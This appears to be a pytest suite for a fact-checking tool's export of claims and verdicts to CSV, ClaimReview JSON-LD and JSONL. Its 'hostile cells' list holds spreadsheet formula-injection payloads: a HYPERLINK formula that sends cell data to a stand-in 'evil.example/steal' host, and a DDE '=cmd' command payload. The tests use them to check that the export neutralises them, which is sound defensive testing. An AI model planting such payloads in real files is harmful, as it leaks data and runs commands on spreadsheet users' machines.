import csv
import dataclasses
import datetime as dt
import io
import json

import pytest

from claims.export import (
    EXPORT_COLUMNS,
    MAX_CELL_CHARS,
    claim_review,
    export_claimreview_json,
    export_jsonl,
    export_row,
    export_verdicts_csv,
    write_verdicts_csv,
)
from claims.models import Claim, Match, Statement, Tier, Verdict
from claims.safety import FORMULA_TRIGGERS, escape_url, neutralise_cell


def make_claim(**kw):
    base = dict(id=7, document_id=1, position=2, text='He said "no", then 3,000, then\nmore',
                start=0, end=10, checkworthiness=0.81234, speaker="Ned Price", document_title="Talks",
                source="Demo", url="https://example.org/a", published=dt.date(2022, 3, 14),
                verdict=Verdict.DISPUTED, reviewer="ana",
                reviewed_at=dt.datetime(2026, 1, 2, 3, 4, 5, 600, tzinfo=dt.timezone.utc),
                note="see, the memo", evidence=("https://a.example/1", "https://b.example/2"))
    base.update(kw)
    return Claim(**base)


def test_header_is_the_documented_one():
    assert EXPORT_COLUMNS == (
        "claim_id", "document_id", "text", "speaker", "document_title", "source", "url", "published",
        "checkworthiness", "verdict", "status", "reviewer", "reviewed_at", "note", "evidence_urls",
        "reviewer_verdicts", "top_match_text", "top_match_similarity", "top_match_verdict", "top_match_source",
        "model")


def test_round_trip_with_rfc4180_quoting():
    statement = Statement(3, "Earlier, with a comma", "X", None, "Desk", None, Verdict.SUPPORTED, "True", "archive")
    rows = [export_row(make_claim(), Match(statement, 0.912345, Tier.SAME_CLAIM), "all-MiniLM-L6-v2"),
            export_row(make_claim(id=8, verdict=None, reviewer=None, reviewed_at=None, note=None, evidence=()),
                       None, "all-MiniLM-L6-v2")]
    buffer = io.StringIO(newline="")
    assert export_verdicts_csv(rows, buffer) == 2
    raw = buffer.getvalue()
    assert raw.startswith('"claim_id","document_id","text",')
    assert "\r\n" in raw and '"He said ""no"", then 3,000, then\nmore"' in raw
    parsed = list(csv.DictReader(io.StringIO(raw, newline="")))
    first, second = parsed
    assert first["verdict"] == "disputed"
    assert first["reviewed_at"] == "2026-01-02T03:04:05Z"
    assert first["evidence_urls"] == "https://a.example/1 https://b.example/2"
    assert first["top_match_similarity"] == "0.9123"
    assert first["top_match_verdict"] == "supported"
    assert first["checkworthiness"] == "0.812"
    assert first["published"] == "2022-03-14"
    assert second["verdict"] == "" and second["top_match_text"] == ""
    assert second["model"] == "all-MiniLM-L6-v2"


def test_claimreview_json_ld_for_reviewed_claims_only():
    reviewed = export_row(make_claim(), None, "m")
    unreviewed = export_row(make_claim(id=8, verdict=None, reviewer=None, reviewed_at=None, note=None,
                                       evidence=()), None, "m")
    buffer = io.StringIO()
    assert export_claimreview_json([reviewed, unreviewed], buffer) == 1
    (review,) = json.loads(buffer.getvalue())
    assert review["@context"] == "https://schema.org" and review["@type"] == "ClaimReview"
    assert review["claimReviewed"] == make_claim().text
    assert review["reviewRating"] == {"@type": "Rating", "ratingValue": 1, "bestRating": 3, "worstRating": 1,
                                      "alternateName": "Disputed"}
    assert review["itemReviewed"]["author"] == {"@type": "Person", "name": "Ned Price"}
    assert review["itemReviewed"]["datePublished"] == "2022-03-14"
    assert review["itemReviewed"]["appearance"] == {"@type": "CreativeWork", "headline": "Talks",
                                                    "url": "https://example.org/a"}
    assert review["datePublished"] == "2026-01-02" and review["author"]["name"] == "ana"
    assert review["citation"] == ["https://a.example/1", "https://b.example/2"]
    assert review["reviewBody"] == "see, the memo" and review["identifier"] == "claimdesk-claim-7"


# -- hostile cells ---------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
]
# where each hostile value is put: a Claim field, or the top match's statement text or source
PLACES = ["text", "speaker", "document_title", "source", "url", "reviewer", "note", "top_match_text",
          "top_match_source"]
NUMBER_COLUMNS = {"claim_id", "checkworthiness", "top_match_similarity"}


def export_one(place, value, similarity=0.5):
    claim_fields, statement_fields = {}, {}
    if place.startswith("top_match_"):
        statement_fields[place.removeprefix("top_match_")] = value
    else:
        claim_fields[place] = value
    statement = dataclasses.replace(
        Statement(3, "Earlier", "X", None, "Desk", None, Verdict.SUPPORTED, "True", "archive"), **statement_fields)
    row = export_row(make_claim(**claim_fields), Match(statement, similarity, Tier.SAME_CLAIM), "m")
    buffer = io.StringIO(newline="")
    assert export_verdicts_csv([row, export_row(make_claim(id=8), None, "m")], buffer) == 2
    return buffer.getvalue()


def assert_no_live_formula(rows):
    for row in rows[1:]:
        for column, cell in zip(rows[0], row):
            if column in NUMBER_COLUMNS and cell.lstrip("-").replace(".", "", 1).isdigit():
                continue
            assert not cell.startswith(FORMULA_TRIGGERS), (column, cell)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cells_are_neutralised_and_read_back(place, value):
    raw = export_one(place, value)
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == 3 and all(len(r) == len(EXPORT_COLUMNS) for r in rows)
    assert_no_live_formula(rows)
    cell = dict(zip(rows[0], rows[1]))[place]
    assert cell == "'" + value
    assert cell[1:] == value
    # the clean second row is untouched by whatever the first one held
    assert dict(zip(rows[0], rows[2]))["text"] == make_claim().text


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_evidence_url_is_neutralised_and_stays_one_link(value):
    row = export_row(make_claim(evidence=(value, "https://ok.example/b")), None, "m")
    buffer = io.StringIO(newline="")
    export_verdicts_csv([row], buffer)
    header, written = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert_no_live_formula([header, written])
    cell = dict(zip(header, written))["evidence_urls"]
    assert neutralise_cell(escape_url(value)) + " https://ok.example/b" == cell
    assert len(cell.split(" ")) == 2
    assert claim_review(row)["citation"] == [value, "https://ok.example/b"]


@pytest.mark.parametrize("reviewer", ["ana\nbob", "ana\r\n=1+1", "ana\r", "=ana\n@bob,\"x\""])
def test_reviewer_with_line_breaks_stays_in_its_row(reviewer):
    raw = export_one("reviewer", reviewer)
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == 3
    assert_no_live_formula(rows)
    parsed = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert [r["claim_id"] for r in parsed] == ["7", "8"]
    assert parsed[0]["reviewer"] == neutralise_cell(reviewer)
    assert parsed[1]["reviewer"] == "ana"


@pytest.mark.parametrize("place", ["note", "text", "top_match_text"])
def test_a_megabyte_cell_is_cut_with_a_marker_and_reads_with_the_default_field_limit(place):
    value = "=" + "x" * 1_000_000
    raw = export_one(place, value)
    assert csv.field_size_limit() == 131072  # Python's default: the reader raises beyond it
    parsed = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert len(parsed) == 2
    cell = parsed[0][place]
    assert len(cell) <= MAX_CELL_CHARS
    kept, marker = cell.split("… [truncated, ")
    assert kept.startswith("'=") and value.startswith(kept[1:])
    omitted = int(marker.removesuffix(" characters omitted]"))
    assert len(kept) + omitted == len(value) + 1  # the quote, then every character, kept or counted
    assert parsed[1][place] != cell


def test_a_cell_of_exactly_the_maximum_is_kept_whole():
    value = "y" * MAX_CELL_CHARS
    parsed = list(csv.DictReader(io.StringIO(export_one("note", value), newline="")))
    assert parsed[0]["note"] == value


@pytest.mark.parametrize("value", ["The US said", "3 percent", "'Twas so", "a=b", "50% - up", "US$ -3", "é@x"])
@pytest.mark.parametrize("place", ["text", "note", "reviewer", "top_match_text"])
def test_benign_text_is_untouched(place, value):
    parsed = list(csv.DictReader(io.StringIO(export_one(place, value), newline="")))
    assert parsed[0][place] == value


def test_numbers_we_wrote_stay_numbers():
    parsed = list(csv.DictReader(io.StringIO(export_one("note", "ok", similarity=-0.0123), newline="")))
    assert parsed[0]["top_match_similarity"] == "-0.0123"
    assert parsed[0]["claim_id"] == "7" and parsed[0]["checkworthiness"] == "0.812"


def test_a_number_column_holding_text_is_neutralised_too():
    row = dataclasses.replace(export_row(make_claim(), None, "m"), top_match_similarity="=1+1",
                              checkworthiness="-1-1")
    buffer = io.StringIO(newline="")
    export_verdicts_csv([row], buffer)
    (parsed,) = csv.DictReader(io.StringIO(buffer.getvalue(), newline=""))
    assert (parsed["top_match_similarity"], parsed["checkworthiness"]) == ("'=1+1", "'-1-1")


def test_every_cell_is_quoted():
    raw = export_one("note", "x;=1+1")
    header, first, _ = raw.split("\r\n", 2)
    assert all(cell.startswith('"') and cell.endswith('"') for cell in header.split(","))
    assert '"x;=1+1"' in first  # a spreadsheet splitting on ";" still sees one quoted cell


def test_evidence_urls_cannot_split():
    evidence = ("https://a.example/x y", 'https://b.example/"q"', "https://c.example/p\tq\n", "https://d.example/é")
    row = export_row(make_claim(evidence=evidence), None, "m")
    buffer = io.StringIO(newline="")
    export_verdicts_csv([row], buffer)
    (parsed,) = csv.DictReader(io.StringIO(buffer.getvalue(), newline=""))
    assert parsed["evidence_urls"].split(" ") == [
        "https://a.example/x%20y", "https://b.example/%22q%22", "https://c.example/p%09q%0A", "https://d.example/é"]
    out = io.StringIO()
    export_claimreview_json([row], out)
    assert json.loads(out.getvalue())[0]["citation"] == list(evidence)


def test_export_row_keeps_the_evidence_but_not_as_a_column():
    row = export_row(make_claim(), None, "m")
    assert row.evidence == ("https://a.example/1", "https://b.example/2")
    assert "evidence" not in EXPORT_COLUMNS


def test_each_reviewer_verdict_and_the_status_are_exported():
    from claims.models import ReviewerVerdict, ReviewStatus

    at = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.timezone.utc)
    claim = make_claim(status=ReviewStatus.ADJUDICATED, reviewer_verdicts=(
        ReviewerVerdict("ana", Verdict.SUPPORTED, at, "=looks right"),
        ReviewerVerdict("ben", Verdict.DISPUTED, at, None, ("https://x.example/1",))))
    row = export_row(claim, None, "m")
    buffer = io.StringIO(newline="")
    export_verdicts_csv([row], buffer, bom=True)
    raw = buffer.getvalue()
    assert raw.startswith("\ufeff")
    (parsed,) = csv.DictReader(io.StringIO(raw.lstrip("\ufeff"), newline=""))
    assert parsed["status"] == "adjudicated" and parsed["verdict"] == "disputed"
    assert parsed["reviewer_verdicts"].splitlines() == [
        "ana · supported · 2026-01-02T03:04:05Z · =looks right", "ben · disputed · 2026-01-02T03:04:05Z"]
    lines = io.StringIO()
    assert export_jsonl([row], lines) == 1
    record = json.loads(lines.getvalue())
    assert record["reviewer_verdicts"][1] == {"reviewer": "ben", "verdict": "disputed",
                                              "at": "2026-01-02T03:04:05Z", "note": "",
                                              "evidence": ["https://x.example/1"]}
    assert record["evidence"] == ["https://a.example/1", "https://b.example/2"] and record["claim_id"] == 7


def test_claimreview_leaves_out_unverified_claims_unless_asked():
    row = export_row(make_claim(verdict=Verdict.UNVERIFIED), None, "m")
    assert claim_review(row) is None
    assert claim_review(row, include_unverified=True)["reviewRating"]["alternateName"] == "Unverified"


def test_claimreview_has_google_s_required_fields():
    """Google's fact-check markup requires claimReviewed, reviewRating with alternateName, and url."""
    row = export_row(make_claim(), None, "m")
    review = claim_review(row, review_url="https://fc.example.org/claims/{claim_id}")
    assert review["claimReviewed"] and review["reviewRating"]["alternateName"] == "Disputed"
    assert review["url"] == "https://fc.example.org/claims/7"
    assert "url" not in claim_review(row)  # no template: the publisher adds it


def _csv_as_it_was(records, bom=False):
    """Every record guarded cell by cell and written by ``csv.writer``: what the export always wrote."""
    from claims.export import _csv_cell

    fp = io.StringIO(newline="")
    if bom:
        fp.write("\ufeff")
    writer = csv.writer(fp, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow(EXPORT_COLUMNS)
    for record in records:
        writer.writerow([_csv_cell(column, value) for column, value in zip(EXPORT_COLUMNS, record)])
    return fp.getvalue()


def _record(**cells):
    base = dict(zip(EXPORT_COLUMNS, (7, 1, "A claim, \"quoted\"\r\nover lines", "", "Doc", "", "", "2022-03-14",
                                     "0.812", "disputed", "agreed", "ana", "2026-01-02T03:04:05Z", "note", "",
                                     "ana · disputed", "Earlier", "0.9123", "supported", "Desk", "model")))
    base.update(cells)
    return tuple(base.values())


@pytest.mark.parametrize("cells", [
    {}, {"text": ""}, {"text": '","'}, {"text": '"'}, {"text": "a\x00b"}, {"note": "\x00=1"}, {"note": "=1"},
    {"speaker": "+1"}, {"document_title": "-x"}, {"source": "@x"}, {"url": "\tx"}, {"note": "\rx"},
    {"text": "x" * (MAX_CELL_CHARS + 1)}, {"text": "x" * MAX_CELL_CHARS}, {"note": "y" * 20_000, "text": "z" * 20_000},
    {"top_match_similarity": "-0.0123"}, {"checkworthiness": "-inf"}, {"top_match_similarity": "=1+1"},
    {"claim_id": -5}, {"document_id": -1}, {"claim_id": "=7"}, {"claim_id": True}, {"note": None}, {"note": 1.5},
    {"verdict": Verdict.DISPUTED}, {"text": "naïve 中文 emoji 🙂 \u202e"}, {"model": "=evil-model"},
    {"reviewer_verdicts": "a · b\nc · d"}, {"text": "x\x00", "note": "y"},
])
def test_the_fast_lines_are_the_csv_writers_lines(cells):
    records = [_record(**cells), _record(), _record(**{"claim_id": 8, **cells})]
    buffer = io.StringIO(newline="")
    assert write_verdicts_csv(records, buffer) == 3
    assert buffer.getvalue() == _csv_as_it_was(records)
    short, long = records[0][:-1], records[0] + ("extra",)
    for odd in ([short], [long], [short + ("a\x00b",)]):
        buffer = io.StringIO(newline="")
        write_verdicts_csv(odd, buffer, bom=True)
        assert buffer.getvalue() == _csv_as_it_was(odd, bom=True)


@pytest.mark.parametrize("at", [
    dt.datetime(2026, 1, 2, 3, 4, 5, 600),  # as SQLite hands it back: UTC without a zone
    dt.datetime(2026, 1, 2, 3, 4, 5, 600, tzinfo=dt.timezone.utc),
    dt.datetime(2026, 1, 2, 5, 4, 5, 600, tzinfo=dt.timezone(dt.timedelta(hours=2))),  # a session's zone
])
def test_times_are_written_in_utc_to_the_second(at):
    row = export_row(make_claim(reviewed_at=at), None, "m")
    assert row.reviewed_at == "2026-01-02T03:04:05Z"
